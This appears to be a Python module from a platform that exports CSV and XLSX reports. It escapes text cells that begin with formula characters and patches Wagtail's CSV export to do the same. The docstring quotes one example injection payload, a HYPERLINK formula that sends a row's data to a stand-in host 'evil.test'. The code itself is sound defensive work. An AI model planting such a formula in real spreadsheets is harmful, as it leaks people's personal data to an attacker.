"""Cells for every CSV and XLSX the platform writes, safe to open in a spreadsheet program.

A participant's own name, district or school goes into reports the program office opens in
Excel or Google Sheets. Text that starts with = + - @, a tab or a carriage return would be
read there as a formula (``=HYPERLINK("http://evil.test/?d="&A2, "Details")`` sends the
row away). So text cells are escaped: in CSV with a leading apostrophe, which spreadsheet
programs show as text and hide; in XLSX they are typed as text, never as formulas.
Numbers stay numbers.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Reports people open in Excel start with the UTF-8 byte-order mark: without it Excel on Windows
# reads the file as the local code page and garbles names such as "Peña".
CSV_BOM = "\ufeff"


def csv_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values):
    return [csv_cell(value) for value in values]


def xlsx_row(sheet, values, font=None, number_formats=None, formulas=False):
    """Write-only cells for one row: strings as text cells (never formulas), unless the row is
    our own (``formulas``: a totals row); each cell with its number format where one is given."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for index, value in enumerate(values):
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str) and not (formulas and value.startswith("=")):
            cell.data_type = "s"
        if font is not None:
            cell.font = font
        if number_formats and number_formats[index]:
            cell.number_format = number_formats[index]
        cells.append(cell)
    return cells


def protect_wagtail_exports():
    """The Wagtail admin's CSV exports (reports, audit log) write text cells unescaped (its
    XLSX already types them as text): escape them the same way."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: csv_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    SpreadsheetExportMixin.write_csv_row = write_csv_row
